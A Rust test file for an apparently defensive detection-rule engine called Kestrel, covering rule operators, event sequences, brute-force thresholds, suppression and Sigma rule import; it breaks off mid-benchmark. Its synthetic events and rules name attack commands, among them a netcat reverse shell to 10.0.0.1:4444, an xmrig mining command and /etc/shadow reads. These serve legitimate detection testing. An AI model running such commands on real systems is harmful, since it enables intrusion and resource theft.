use std::sync::atomic::Ordering;
use std::sync::Arc;

use kestrel_event::Event;

use crate::*;

fn src(name: &str, text: &str) -> RuleSource {
    RuleSource {
        origin: Origin::Custom,
        name: name.into(),
        text: text.into(),
    }
}

fn ev(pairs: &[(&'static str, &str)]) -> Event {
    let mut e = Event::with_capacity(pairs.len());
    for (k, v) in pairs {
        e.push(k, *v);
    }
    e
}

fn engine(texts: &[&str], cfg: EngineConfig) -> Engine {
    let sources: Vec<RuleSource> = texts
        .iter()
        .enumerate()
        .map(|(i, t)| src(&format!("f{i}.yaml"), t))
        .collect();
    Engine::new(compile(&sources).unwrap(), cfg, Arc::default())
}

fn no_suppress() -> EngineConfig {
    EngineConfig {
        suppress_ms: 0,
        ..Default::default()
    }
}

fn run(e: &mut Engine, events: &[Event]) -> Vec<Event> {
    let mut out = Vec::new();
    for x in events {
        e.process(x, &mut out);
    }
    out
}

/// One single-event rule with `cond` (YAML, indented as a condition).
fn single(cond: &str) -> String {
    format!("rules:\n- id: r\n  name: R\n  severity: high\n  condition:\n{cond}")
}

fn fires(cond: &str, pairs: &[(&'static str, &str)]) -> bool {
    let mut e = engine(&[&single(cond)], no_suppress());
    !run(&mut e, &[ev(pairs)]).is_empty()
}

#[test]
fn every_operator() {
    let c = |op: &str| format!("    field: f\n    {op}\n");
    assert!(fires(&c("equals: a"), &[("f", "a")]));
    assert!(!fires(&c("equals: a"), &[("f", "ab")]));
    assert!(fires(&c("in: [x, a]"), &[("f", "a")]));
    assert!(fires(&c("prefix: /tmp/"), &[("f", "/tmp/x")]));
    assert!(!fires(&c("prefix: /tmp/"), &[("f", "/tmpx")]));
    assert!(fires(&c("suffix: [/bash, /sh]"), &[("f", "/bin/sh")]));
    assert!(fires(
        &c("contains: stratum+tcp"),
        &[("f", "x -o stratum+tcp://p")]
    ));
    assert!(fires(
        &c("glob: /home/*/.ssh/authorized_keys"),
        &[("f", "/home/u/.ssh/authorized_keys")]
    ));
    // `*` stays within a directory, `**` crosses them.
    assert!(!fires(
        &c("glob: /home/*/authorized_keys"),
        &[("f", "/home/u/.ssh/authorized_keys")]
    ));
    assert!(fires(
        &c("glob: /home/**/authorized_keys"),
        &[("f", "/home/u/.ssh/authorized_keys")]
    ));
    assert!(fires(
        &c("regex: '^/usr/bin/python[0-9.]*$'"),
        &[("f", "/usr/bin/python3.11")]
    ));
    assert!(!fires(
        &c("regex: '^/usr/bin/python[0-9.]*$'"),
        &[("f", "/usr/bin/python3-x")]
    ));
    assert!(fires(
        &c("cidr: [10.0.0.0/8, 'fd00::/8']"),
        &[("f", "10.1.2.3")]
    ));
    assert!(fires(&c("cidr: 10.0.0.0/8"), &[("f", "::ffff:10.1.2.3")]));
    assert!(fires(&c("cidr: 'fd00::/8'"), &[("f", "fd12::1")]));
    assert!(!fires(&c("cidr: 10.0.0.0/8"), &[("f", "11.0.0.1")]));
    assert!(!fires(&c("cidr: 10.0.0.0/8"), &[("f", "not an ip")]));
    assert!(fires(&c("gt: 1023"), &[("f", "3333")]));
    assert!(!fires(&c("gt: 1023"), &[("f", "1023")]));
    assert!(fires(&c("ge: 1023"), &[("f", "1023")]));
    assert!(fires(&c("lt: 0"), &[("f", "-115")]));
    assert!(fires(&c("le: 0"), &[("f", "0")]));
    assert!(!fires(&c("le: 0"), &[("f", "x")]));
    assert!(fires(&c("exists: true"), &[("f", "v")]));
    assert!(!fires(&c("exists: true"), &[("f", "")]));
    assert!(fires(&c("exists: false"), &[("g", "v")]));
    assert!(fires(&c("same_as: g"), &[("f", "1"), ("g", "1")]));
    assert!(!fires(&c("same_as: g"), &[("f", "1"), ("g", "2")]));
    assert!(fires(
        &c("equals: BASH\n    nocase: true"),
        &[("f", "bash")]
    ));
    assert!(fires(
        &c("prefix: /TMP/\n    nocase: true"),
        &[("f", "/tmp/x")]
    ));
    // Absent field: false, and `not` of it true.
    assert!(!fires(&c("equals: a"), &[("g", "a")]));
    assert!(fires(
        "    not:\n      field: f\n      equals: a\n",
        &[("g", "a")]
    ));
    let both = "    all:\n    - field: f\n      equals: a\n    - any:\n      - field: g\n        equals: x\n      - field: g\n        equals: y\n";
    assert!(fires(both, &[("f", "a"), ("g", "y")]));
    assert!(!fires(both, &[("f", "a"), ("g", "z")]));
}

#[test]
fn lists_and_macros_are_shared_between_files() {
    let shared = "lists:\n  shells: [sh, bash]\n  more: [{list: shells}, zsh]\nmacros:\n  is_exec:\n    field: data_type\n    equals: '59'\n";
    let rules = "rules:\n- id: r\n  name: R\n  severity: low\n  condition:\n    all:\n    - macro: is_exec\n    - field: comm\n      in: [{list: more}]\n";
    let mut e = engine(&[shared, rules], no_suppress());
    let out = run(
        &mut e,
        &[
            ev(&[("data_type", "59"), ("comm", "zsh")]),
            ev(&[("data_type", "59"), ("comm", "bash")]),
            ev(&[("data_type", "42"), ("comm", "bash")]),
            ev(&[("data_type", "59"), ("comm", "perl")]),
        ],
    );
    assert_eq!(out.len(), 2);
}

#[test]
fn errors_name_file_and_line() {
    let bad =
        "rules:\n- id: r\n  name: R\n  severity: high\n  conditon:\n    field: f\n    equals: a\n";
    let e = compile(&[src("x.yaml", bad)]).unwrap_err();
    let msg = e.to_string();
    assert!(msg.starts_with("x.yaml:5:3:"), "{msg}");
    assert!(msg.contains("conditon"), "{msg}");
    let unknown = "rules:\n- id: a\n  name: A\n  severity: low\n  condition: {field: f, equals: 1}\n- id: b\n  name: B\n  severity: low\n  condition: {macro: nope}\n";
    let msg = compile(&[src("y.yaml", unknown)]).unwrap_err().to_string();
    assert!(
        msg.starts_with("y.yaml:6: rule \"b\": unknown macro"),
        "{msg}"
    );
    let two_ops = single("    field: f\n    equals: a\n    prefix: b\n");
    let msg = compile(&[src("z.yaml", &two_ops)]).unwrap_err().to_string();
    assert!(msg.contains("exactly one operator"), "{msg}");
    let regex = single("    field: f\n    regex: '('\n");
    assert!(compile(&[src("r.yaml", &regex)]).is_err());
    let not_yaml = "rules: [\n";
    let msg = compile(&[src("n.yaml", not_yaml)]).unwrap_err().to_string();
    assert!(msg.starts_with("n.yaml:"), "{msg}");
    let dup = format!("{}\n", single("    field: f\n    equals: a\n"));
    let msg = compile(&[src("d1.yaml", &dup), src("d2.yaml", &dup)])
        .unwrap_err()
        .to_string();
    assert!(msg.contains("defined twice"), "{msg}");
}

#[test]
fn exceptions_from_another_file_and_disable() {
    let shipped = "rules:\n- id: r\n  name: R\n  severity: high\n  condition: {field: data_type, equals: '59'}\n  exceptions:\n  - name: builtin\n    fields: [exe]\n    values: [[/usr/bin/ok]]\n- id: s\n  name: S\n  severity: low\n  condition: {field: data_type, equals: '59'}\n";
    let operator = "exceptions:\n- rule: r\n  name: our_backup\n  fields: [exe, argv]\n  comps: [equals, prefix]\n  values:\n  - [/usr/bin/rsync, 'rsync -a /srv']\ndisable: [s]\n";
    let set = compile(&[src("a.yaml", shipped), src("b.yaml", operator)]).unwrap();
    assert_eq!(set.rules.len(), 1);
    let s = set.report.iter().find(|r| r.rule_id == "s").unwrap();
    assert_eq!(s.status, "disabled");
    let mut e = Engine::new(set, no_suppress(), Arc::default());
    let out = run(
        &mut e,
        &[
            ev(&[("data_type", "59"), ("exe", "/usr/bin/ok")]),
            ev(&[
                ("data_type", "59"),
                ("exe", "/usr/bin/rsync"),
                ("argv", "rsync -a /srv/x /b"),
            ]),
            ev(&[
                ("data_type", "59"),
                ("exe", "/usr/bin/rsync"),
                ("argv", "rsync -a /etc /b"),
            ]),
        ],
    );
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].get("exe"), Some("/usr/bin/rsync"));
    let wrong = "exceptions:\n- rule: nope\n  name: x\n  fields: [exe]\n  values: [[a]]\n";
    let msg = compile(&[src("a.yaml", shipped), src("c.yaml", wrong)])
        .unwrap_err()
        .to_string();
    assert!(msg.starts_with("c.yaml:2:"), "{msg}");
}

const SEQ: &str = "rules:
- id: seq
  name: connect then shell
  severity: high
  mitre: [T1059.004, T1071]
  sequence:
    by: [tgid]
    within: 5s
    steps:
    - condition: {field: data_type, equals: '42'}
    - condition: {field: data_type, equals: '59'}
    unless:
      condition: {field: data_type, equals: '112'}
";

fn at(t: u64, pairs: &[(&'static str, &str)]) -> Event {
    let mut e = ev(pairs);
    e.push("time", t.to_string());
    e
}

#[test]
fn sequence_by_key_within_window() {
    let mut e = engine(&[SEQ], no_suppress());
    let out = run(
        &mut e,
        &[
            at(
                1000,
                &[("data_type", "42"), ("tgid", "7"), ("event_id", "a")],
            ),
            // Another process's exec: not the same key.
            at(
                1500,
                &[("data_type", "59"), ("tgid", "8"), ("event_id", "b")],
            ),
            at(
                2000,
                &[
                    ("data_type", "59"),
                    ("tgid", "7"),
                    ("event_id", "c"),
                    ("exe", "/bin/sh"),
                ],
            ),
        ],
    );
    assert_eq!(out.len(), 1);
    let a = &out[0];
    assert_eq!(a.get("data_type"), Some("9000"));
    assert_eq!(a.get("trigger_event_ids"), Some("a,c"));
    assert_eq!(a.get("mitre_technique"), Some("T1059.004,T1071"));
    assert_eq!(a.get("exe"), Some("/bin/sh"));
    assert_eq!(a.get("tgid"), Some("7"));
    // Too late.
    let out = run(
        &mut e,
        &[
            at(10_000, &[("data_type", "42"), ("tgid", "9")]),
            at(15_001, &[("data_type", "59"), ("tgid", "9")]),
        ],
    );
    assert!(out.is_empty());
    // `unless` in between cancels it.
    let out = run(
        &mut e,
        &[
            at(20_000, &[("data_type", "42"), ("tgid", "10")]),
            at(20_100, &[("data_type", "112"), ("tgid", "10")]),
            at(20_200, &[("data_type", "59"), ("tgid", "10")]),
        ],
    );
    assert!(out.is_empty());
    // B before A in time: no sequence.
    let out = run(
        &mut e,
        &[
            at(30_000, &[("data_type", "59"), ("tgid", "11")]),
            at(30_100, &[("data_type", "42"), ("tgid", "11")]),
        ],
    );
    assert!(out.is_empty());
}

#[test]
fn sequence_events_arriving_out_of_order() {
    // The file creation reaches the engine after the exec of that file
    // (it waited for its hash); their times say which came first.
    let rules = "rules:
- id: dl
  name: created then executed
  severity: high
  sequence:
    by: [path]
    within: 10m
    steps:
    - condition: {field: data_type, equals: '602'}
      by: [file_path]
    - condition: {field: data_type, equals: '59'}
      by_any: [[exe], [filename]]
";
    let mut e = engine(&[rules], no_suppress());
    let out = run(
        &mut e,
        &[
            at(
                2000,
                &[
                    ("data_type", "59"),
                    ("exe", "/tmp/x"),
                    ("filename", "./x"),
                    ("event_id", "exec"),
                ],
            ),
            at(
                1000,
                &[
                    ("data_type", "602"),
                    ("file_path", "/tmp/x"),
                    ("event_id", "file"),
                ],
            ),
        ],
    );
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].get("trigger_event_ids"), Some("file,exec"));
    // The alert is about the exec (the last trigger), not the creator.
    assert_eq!(out[0].get("exe"), Some("/tmp/x"));
    // By its other key: a script's path is its filename.
    let out = run(
        &mut e,
        &[
            at(5000, &[("data_type", "602"), ("file_path", "/tmp/s.sh")]),
            at(
                6000,
                &[
                    ("data_type", "59"),
                    ("exe", "/usr/bin/dash"),
                    ("filename", "/tmp/s.sh"),
                ],
            ),
        ],
    );
    assert_eq!(out.len(), 1);
}

const BRUTE: &str = "rules:
- id: brute_then_success
  name: burst then success
  severity: critical
  sequence:
    by: [from_ip]
    within: 10m
    steps:
    - condition: {all: [{field: data_type, equals: '1001'}, {field: status, equals: Failed}]}
      count: 10
      within: 60s
    - condition: {all: [{field: data_type, equals: '1001'}, {field: status, equals: Success}]}
- id: brute
  name: burst
  severity: medium
  condition: {all: [{field: data_type, equals: '1001'}, {field: status, equals: Failed}]}
  threshold:
    group_by: [from_ip]
    within: 60s
    count: 10
- id: users
  name: many users
  severity: medium
  condition: {field: data_type, equals: '1001'}
  threshold:
    group_by: [from_ip]
    within: 60s
    count: 3
    distinct: user
";

fn login(t: u64, ip: &str, status: &str, user: &str) -> Event {
    let mut e = Event::default();
    e.push("data_type", "1001");
    e.push("status", status);
    e.push("user", user);
    e.push("from_ip", ip);
    e.push("time", t.to_string());
    e.push("event_id", format!("{ip}-{t}"));
    e
}

fn ids(out: &[Event], rule: &str) -> usize {
    out.iter()
        .filter(|a| a.get("rule_id") == Some(rule))
        .count()
}

#[test]
fn counted_step_threshold_and_distinct() {
    let mut e = engine(&[BRUTE], no_suppress());
    let mut evs = Vec::new();
    for i in 0..10 {
        evs.push(login(1000 + i * 1000, "1.2.3.4", "Failed", "root"));
    }
    evs.push(login(20_000, "1.2.3.4", "Success", "root"));
    // One mistyped password and a success: nothing.
    evs.push(login(1000, "5.6.7.8", "Failed", "root"));
    evs.push(login(2000, "5.6.7.8", "Success", "root"));
    // Ten failures spread over more than 60 s: no burst.
    for i in 0..10 {
        evs.push(login(100_000 + i * 10_000, "9.9.9.9", "Failed", "root"));
    }
    evs.push(login(200_000, "9.9.9.9", "Success", "root"));
    let out = run(&mut e, &evs);
    assert_eq!(ids(&out, "brute"), 1, "{out:?}");
    assert_eq!(ids(&out, "brute_then_success"), 1, "{out:?}");
    let a = out
        .iter()
        .find(|a| a.get("rule_id") == Some("brute_then_success"))
        .unwrap();
    assert_eq!(a.get("trigger_event_ids").unwrap().split(',').count(), 11);
    assert_eq!(ids(&out, "users"), 0);
    let out = run(
        &mut e,
        &[
            login(300_000, "7.7.7.7", "Failed", "a"),
            login(300_001, "7.7.7.7", "Failed", "a"),
            login(300_002, "7.7.7.7", "Failed", "b"),
            login(300_003, "7.7.7.7", "Failed", "c"),
        ],
    );
    assert_eq!(ids(&out, "users"), 1);
}

#[test]
fn first_seen_with_learning() {
    let rules = "rules:
- id: fs
  name: new destination
  severity: low
  condition: {field: data_type, equals: '42'}
  first_seen:
    group_by: [exe]
    field: dip
    learn: 10s
";
    let mut e = engine(&[rules], no_suppress());
    let c = |t, exe: &'static str, dip: &'static str| {
        at(t, &[("data_type", "42"), ("exe", exe), ("dip", dip)])
    };
    let out = run(
        &mut e,
        &[
            c(1000, "/bin/a", "1.1.1.1"),
            c(2000, "/bin/a", "2.2.2.2"),
            c(20_000, "/bin/a", "1.1.1.1"),
            c(20_001, "/bin/a", "3.3.3.3"),
            c(20_002, "/bin/b", "1.1.1.1"),
            c(20_003, "/bin/b", "1.1.1.1"),
        ],
    );
    let dips: Vec<_> = out.iter().map(|a| a.get("exe").unwrap()).collect();
    assert_eq!(dips, ["/bin/a", "/bin/b"]);
}

#[test]
fn suppression_carries_the_count() {
    let mut e = engine(
        &[&single("    field: data_type\n    equals: '59'\n")],
        EngineConfig {
            suppress_ms: 10_000,
            ..Default::default()
        },
    );
    let x = |t| at(t, &[("data_type", "59"), ("tgid", "1"), ("exe", "/x")]);
    let out = run(&mut e, &[x(1000), x(2000), x(3000), x(12_000)]);
    assert_eq!(out.len(), 2);
    assert_eq!(out[0].get("suppressed"), Some("0"));
    assert_eq!(out[1].get("suppressed"), Some("2"));
    assert_eq!(e.counters().suppressed.load(Ordering::Relaxed), 2);
    // Another key is not suppressed.
    let y = at(12_500, &[("data_type", "59"), ("tgid", "2"), ("exe", "/x")]);
    assert_eq!(run(&mut e, &[y]).len(), 1);
}

/// The key is read off the trigger event, whatever fields the alert
/// carries, and an empty value is a value: each finding of another module,
/// each process without a known exe, alerts on its own.
#[test]
fn suppression_keys_come_from_the_trigger_event() {
    let rules = "rules:
- id: f
  name: F
  severity: critical
  key: [data_type, module_name, hook_address]
  condition: {field: data_type, in: ['700', '702']}
- id: m
  name: M
  severity: high
  condition: {field: data_type, equals: '603'}
";
    let mut e = engine(
        &[rules],
        EngineConfig {
            suppress_ms: 10_000,
            ..Default::default()
        },
    );
    let finding = |t, dt, m, a| {
        at(
            t,
            &[("data_type", dt), ("module_name", m), ("hook_address", a)],
        )
    };
    let out = run(
        &mut e,
        &[
            finding(1000, "700", "rk", "0xffff0001"),
            finding(1001, "700", "rk", "0xffff0002"),
            finding(1002, "702", "rk", ""),
            finding(1003, "700", "other", "0xffff0001"),
            // The same finding again: suppressed.
            finding(1004, "700", "rk", "0xffff0001"),
        ],
    );
    assert_eq!(out.len(), 4, "{out:?}");
    // The default key (tgid, exe) with no exe known: one alert per process.
    let load = |t, tgid| at(t, &[("data_type", "603"), ("tgid", tgid), ("exe", "")]);
    let out = run(
        &mut e,
        &[load(2000, "10"), load(2001, "11"), load(2002, "10")],
    );
    assert_eq!(out.len(), 2, "{out:?}");
    assert_eq!(e.counters().suppressed.load(Ordering::Relaxed), 2);
}

#[test]
fn state_is_bounded_and_evictions_counted() {
    let mut e = engine(
        &[SEQ],
        EngineConfig {
            suppress_ms: 0,
            max_state_entries: 100,
            ..Default::default()
        },
    );
    let mut evs = Vec::new();
    for p in 0..1000u64 {
        let mut c = at(1000 + p, &[("data_type", "42")]);
        c.push("tgid", p.to_string());
        evs.push(c);
    }
    run(&mut e, &evs);
    assert_eq!(
        e.counters().state_evictions.load(Ordering::Relaxed),
        900,
        "100 entries kept"
    );
    // The newest survive.
    let out = run(&mut e, &[at(2500, &[("data_type", "59"), ("tgid", "999")])]);
    assert_eq!(out.len(), 1);
    let out = run(&mut e, &[at(2500, &[("data_type", "59"), ("tgid", "5")])]);
    assert!(out.is_empty());
}

#[test]
fn indexed_by_data_type_and_field() {
    let mut rules = String::from("rules:\n");
    for i in 0..50 {
        rules.push_str(&format!(
            "- id: r{i}\n  name: R\n  severity: low\n  condition:\n    all: [{{field: data_type, equals: '42'}}, {{field: dport, equals: '{i}'}}]\n"
        ));
    }
    rules.push_str("- id: e\n  name: E\n  severity: low\n  condition:\n    all: [{field: data_type, in: ['59', '602']}, {field: exe, equals: /x}]\n");
    // No guard to index it by: run on every 42.
    rules.push_str("- id: n\n  name: N\n  severity: low\n  condition:\n    all: [{field: data_type, equals: '42'}, {field: dport, gt: 60000}]\n");
    let mut e = engine(&[&rules], no_suppress());
    let evals = |e: &Engine| e.counters().rule_evaluations.load(Ordering::Relaxed);
    // The field index: exe is not /x, so rule e is not even run.
    run(&mut e, &[ev(&[("data_type", "59"), ("exe", "/y")])]);
    assert_eq!(evals(&e), 0);
    assert_eq!(
        run(&mut e, &[ev(&[("data_type", "602"), ("exe", "/x")])]).len(),
        1
    );
    assert_eq!(evals(&e), 1);
    // One of the fifty dport rules, and the unguarded one.
    assert_eq!(
        run(&mut e, &[ev(&[("data_type", "42"), ("dport", "3")])]).len(),
        1
    );
    assert_eq!(evals(&e), 3);
    // An event without the guarded field runs only the unguarded rule.
    assert!(run(&mut e, &[ev(&[("data_type", "42")])]).is_empty());
    assert_eq!(evals(&e), 4);
}

/// A case-insensitive test of Kestrel's own rules is a guard: `(?i)`
/// regexes, exact on ASCII values; a value that is not ASCII runs the
/// rule, since `to_lowercase` (the test's folding) and `(?i)` differ there
/// (İ lowercases to i and a combining dot).
#[test]
fn case_insensitive_tests_are_guards_exact_on_ascii() {
    let rules = "rules:
- id: who
  name: W
  severity: low
  condition:
    all:
    - {field: data_type, equals: '59'}
    - {field: res, equals: '0'}
    - {field: argv, contains: [WhoAmI], nocase: true}
";
    let mut e = engine(&[rules], no_suppress());
    let evals = |e: &Engine| e.counters().rule_evaluations.load(Ordering::Relaxed);
    let exec = |argv: &'static str| ev(&[("data_type", "59"), ("res", "0"), ("argv", argv)]);
    assert!(run(&mut e, &[exec("ls -l")]).is_empty());
    assert_eq!(evals(&e), 0, "guarded by argv, not by res");
    for argv in ["whoami", "sh -c WHOAMI", "x;wHoAmI"] {
        assert_eq!(run(&mut e, &[exec(argv)]).len(), 1, "{argv}");
    }
    assert_eq!(evals(&e), 3);
    assert_eq!(run(&mut e, &[exec("whoamİ")]).len(), 1);
    assert!(run(&mut e, &[exec("échec")]).is_empty());
    assert_eq!(evals(&e), 5, "values that are not ASCII run the rule");
}

/// An IPv4 block test is a guard: a rule on addresses is not run on a
/// connect elsewhere, and still matches every form of an address in the
/// block (a partial octet, an IPv4-mapped IPv6 one in hex).
#[test]
fn cidr_tests_are_guards() {
    let rules = "rules:
- id: net
  name: N
  severity: low
  condition:
    all:
    - {field: data_type, equals: '42'}
    - {field: dip, cidr: [203.0.113.0/24, 10.16.0.0/12]}
";
    let mut e = engine(&[rules], no_suppress());
    let evals = |e: &Engine| e.counters().rule_evaluations.load(Ordering::Relaxed);
    let to = |dip: &'static str| ev(&[("data_type", "42"), ("dip", dip)]);
    for dip in ["8.8.8.8", "203.0.114.1", "10.32.0.1", "10.15.255.255"] {
        assert!(run(&mut e, &[to(dip)]).is_empty(), "{dip}");
    }
    assert_eq!(evals(&e), 0, "addresses outside the blocks run no rule");
    for dip in [
        "203.0.113.250",
        "10.16.0.0",
        "10.31.255.255",
        "::ffff:203.0.113.9",
        "::ffff:a1f:1",
    ] {
        assert_eq!(run(&mut e, &[to(dip)]).len(), 1, "{dip}");
    }
    // Any IPv6 form runs the rule (it may be IPv4-mapped); this one is not.
    assert!(run(&mut e, &[to("2001:db8::1")]).is_empty());
    assert_eq!(evals(&e), 6);
}

/// The field index may only skip rules that cannot match: every rule of
/// the built-in set and of a Sigma set whose condition matches an event
/// must be among those the index runs on it.
#[test]
fn the_field_index_skips_only_rules_that_cannot_match() {
    let mut sources = builtin_sources();
    sources.push(src("agent", "lists:\n  kestrel_agent_pids: ['1']\n"));
    sources.push(src(
        "ops.yaml",
        "rules:
- {id: o1, name: O, severity: low, condition: {all: [{field: data_type, equals: '59'}, {field: exe, suffix: [/nc, /curl]}]}}
- {id: o2, name: O, severity: low, condition: {all: [{field: data_type, equals: '602'}, {field: file_path, prefix: /etc/}]}}
- {id: o3, name: O, severity: low, condition: {any: [{field: argv, contains: stratum}, {field: argv, equals: ls}]}}
- {id: o4, name: O, severity: low, condition: {all: [{field: data_type, in: ['42', '43']}, {field: dport, equals: '4444'}, {field: exe, prefix: /usr/}]}}
- {id: o5, name: O, severity: low, condition: {all: [{field: data_type, equals: '42'}, {field: dip, cidr: [203.0.113.0/24, 10.16.0.0/12, 192.0.2.7]}]}}
",
    ));
    sources.push(RuleSource {
        origin: Origin::Sigma,
        name: "s.yml".into(),
        text: "
title: Tools
id: s-1
logsource: {product: linux, category: process_creation}
detection:
  sel: {Image|endswith: [/nc, /ncat, /socat]}
  cmd: {CommandLine|contains|all: [' -e ', /bin/]}
  condition: sel or cmd
level: high
---
title: Parent
id: s-2
logsource: {product: linux, category: process_creation}
detection:
  sel: {ParentImage|endswith: /nginx, Image|endswith: [/sh, /bash]}
  condition: sel
level: high
---
title: Drop
id: s-3
logsource: {product: linux, category: file_event}
detection:
  sel: {TargetFilename|startswith: /etc/cron.d/}
  condition: sel
level: medium
---
title: Port
id: s-4
logsource: {product: linux, category: network_connection}
detection:
  sel: {DestinationPort: [4444, 1337]}
  condition: sel
level: medium
---
title: Recon
id: s-5
logsource: {product: linux, category: process_creation}
detection:
  sel: {CommandLine|contains: [whoami, 'id -u'], Image|endswith: [/bash, /python3]}
  shadow: {CommandLine|endswith: /etc/shadow}
  condition: sel or shadow
level: low
---
title: Whoami
id: s-6
logsource: {product: linux, category: process_creation}
detection:
  sel: {CommandLine|contains: whoami}
  condition: sel
level: low
"
        .into(),
    });
    let set = compile(&sources).unwrap();
    let rules: Vec<Rule> = set.rules.clone();
    let e = Engine::new(set, no_suppress(), Arc::default());
    let exes = [
        "/usr/bin/nc",
        "/bin/bash",
        "/usr/sbin/nginx",
        "/tmp/x",
        "/dev/shm/y",
        "/usr/bin/NC",
        "/usr/bin/curl",
        "/usr/bin/xmrig",
        "/BIN/BASH",
        "/usr/bin/python3",
    ];
    let argvs = [
        "nc -e /bin/sh 10.0.0.1 4444",
        "bash -i",
        "ls",
        "curl -o /tmp/a http://x",
        "xmrig -o stratum+tcp://pool:3333 --donate-level 1",
        "",
        // Case-insensitive tests (Sigma's) are guards too: other cases,
        // and values whose lowercase a regex's (?i) does not give
        // (İ lowercases to i and a combining dot).
        "NC -E /BIN/SH 10.0.0.1 4444",
        "WhoAmI",
        "whoamİ",
        "cat /ETC/SHADOW",
    ];
    let files = [
        "/etc/cron.d/job",
        "/etc/shadow",
        "/root/.ssh/authorized_keys",
        "/var/log/auth.log",
        "/home/u/.bash_history",
        "/etc/ld.so.preload",
        "/tmp/z",
    ];
    let mut events = Vec::new();
    for dt in [
        "59", "42", "43", "602", "608", "609", "605", "82", "86", "601", "101",
    ] {
        for (k, exe) in exes.iter().enumerate() {
            for argv in argvs {
                let file = files[k % files.len()];
                let port = ["4444", "1337", "3333", "443"][k % 4];
                // Addresses in and out of the blocks, in every form the
                // test's parser takes.
                let dip = [
                    "203.0.113.9",
                    "203.0.114.9",
                    "10.31.255.1",
                    "10.32.0.1",
                    "192.0.2.7",
                    "192.0.2.70",
                    "::ffff:203.0.113.5",
                    "::ffff:cb00:7105",
                    "2001:db8::1",
                    "x",
                ][(k + argv.len()) % 10];
                events.push(ev(&[
                    ("data_type", dt),
                    ("exe", exe),
                    ("argv", argv),
                    ("parent_exe", exes[(k + 2) % exes.len()]),
                    ("file", file),
                    ("file_path", file),
                    ("old_name", file),
                    ("new_name", "/dev/null"),
                    ("dport", port),
                    ("dip", dip),
                    ("res", "0"),
                    ("query", "pool.minexmr.com"),
                    ("truncates", "true"),
                    ("uid", "0"),
                    ("tgid", "7"),
                ]));
            }
        }
    }
    let mut checked = 0;
    for x in &events {
        let run = e.candidates(x);
        for (i, r) in rules.iter().enumerate() {
            let crate::load::Kind::Single(c) = &r.kind else {
                continue;
            };
            if c.matches(x) {
                checked += 1;
                assert!(
                    run.contains(&i),
                    "rule {} matches but was skipped: {x:?}",
                    r.id
                );
            }
        }
    }
    assert!(
        checked > 100,
        "the events must make rules match ({checked})"
    );
}

#[test]
fn reload_keeps_state_of_unchanged_rules() {
    let other = "rules:\n- id: other\n  name: O\n  severity: low\n  sequence:\n    by: [tgid]\n    within: 5s\n    steps:\n    - condition: {field: data_type, equals: '42'}\n    - condition: {field: data_type, equals: '59'}\n";
    let mut e = engine(&[SEQ, other], no_suppress());
    run(&mut e, &[at(1000, &[("data_type", "42"), ("tgid", "7")])]);
    // `other` changes (its window), `seq` does not.
    let changed = other.replace("within: 5s", "within: 6s");
    let set = compile(&[src("f0.yaml", SEQ), src("f1.yaml", &changed)]).unwrap();
    assert_eq!(e.reload(set), 1);
    let out = run(&mut e, &[at(2000, &[("data_type", "59"), ("tgid", "7")])]);
    let fired: Vec<_> = out.iter().map(|a| a.get("rule_id").unwrap()).collect();
    assert_eq!(fired, ["seq"]);
}

#[test]
fn the_alert_has_the_issue_fields_all_strings() {
    let mut e = engine(
        &[&single("    field: data_type\n    equals: '59'\n")],
        EngineConfig {
            alert_prefix: "agent-3".into(),
            ..Default::default()
        },
    );
    let x = at(
        5,
        &[
            ("data_type", "59"),
            ("event_id", "agent-3-17"),
            ("exe", "/bin/sh"),
            ("pid", "4"),
            ("container_id", "c0"),
            ("hostname", "h"),
            ("dip", "1.2.3.4"),
        ],
    );
    let out = run(&mut e, &[x]);
    let names: Vec<_> = out[0].fields().map(|(k, _)| k).collect();
    assert_eq!(
        names,
        [
            "data_type",
            "alert_id",
            "rule_id",
            "rule_name",
            "severity",
            "mitre_technique",
            "source",
            "description",
            "trigger_event_ids",
            "suppressed",
            "time",
            "pid",
            "exe",
            "hostname",
            "container_id"
        ]
    );
    assert_eq!(out[0].get("alert_id"), Some("agent-3-alert-0"));
    assert_eq!(out[0].get("source"), Some("custom"));
    assert_eq!(out[0].get("trigger_event_ids"), Some("agent-3-17"));
    let mut line = Vec::new();
    out[0].write_json_line(&mut line);
    let v: serde_json::Value = serde_json::from_slice(&line).unwrap();
    assert!(v.as_object().unwrap().values().all(|v| v.is_string()));
}

#[test]
fn the_builtin_set_compiles() {
    // With the list the agent fills at start.
    let mut sources = builtin_sources();
    sources.push(src("agent", "lists:\n  kestrel_agent_pids: ['1']\n"));
    let set = compile(&sources).unwrap();
    assert!(set.report.iter().all(|r| r.status == "loaded"));
    assert!(set.rules.iter().all(|r| r.source == Origin::Builtin));
    assert!(set.rules.len() >= 20);
}

/// The engine's own cost per event with the built-in set, on a mix like
/// the pipeline bench's (mostly connects, execs, DNS answers, file
/// creations): `cargo test --release -p kestrel-detect -- --ignored
/// --nocapture engine_cost`.
#[test]
#[ignore]
fn engine_cost() {
    let mut sources = builtin_sources();
    sources.push(src("agent", "lists:\n  kestrel_agent_pids: ['1']\n"));
    let mut e = Engine::new(
        compile(&sources).unwrap(),
        EngineConfig::default(),
        Arc::default(),
    );
    let common: &[(&'static str, &str)] = &[
        ("uid", "0"),
        ("pid", "4242"),
        ("ppid", "4000"),
        ("pgid", "4000"),
        ("tgid", "4242"),
        ("comm", "curl"),
        ("nodename", "vm"),
        ("sessionid", "4294967295"),
        ("user", "root"),
        ("local_ip", "192.0.2.2"),
        ("hostname", "vm"),
        ("exe_md5", "038170c95d94437d6e02a0f631524119"),
        ("euid", "0"),
        ("pid_ns", "4026531836"),
        ("mnt_ns", "4026531832"),
        ("net_ns", "4026531833"),
        ("cgroup_id", "11750"),
        ("container_id", ""),
        ("container_runtime", ""),
    ];
    let mk = |extra: &[(&'static str, &str)]| {
        let mut x = ev(extra);
        for (k, v) in common {
            x.push(k, *v);
        }
        x
    };
    let exec = mk(&[
        ("data_type", "59"),
        ("exe", "/usr/bin/curl"),
        ("argv", "curl -s -m 2 http://127.0.0.1:9/"),
        ("stdin", "/dev/pts/0"),
        ("stdout", "/dev/pts/0"),
        (
            "pid_tree",
            "1(systemd)->32155(sshd)->12216(sshd)->12222(bash)->12322(curl)",
        ),
        ("socket_process_exe", ""),
        ("LD_PRELOAD", ""),
        ("res", "0"),
        ("filename", "/usr/bin/curl"),
        ("exe_memfd", "false"),
        ("exe_deleted", "false"),
    ]);
    let connect = mk(&[
        ("data_type", "42"),
        ("exe", "/usr/bin/curl"),
        ("dip", "127.0.0.1"),
        ("dport", "9"),
        ("res", "-115"),
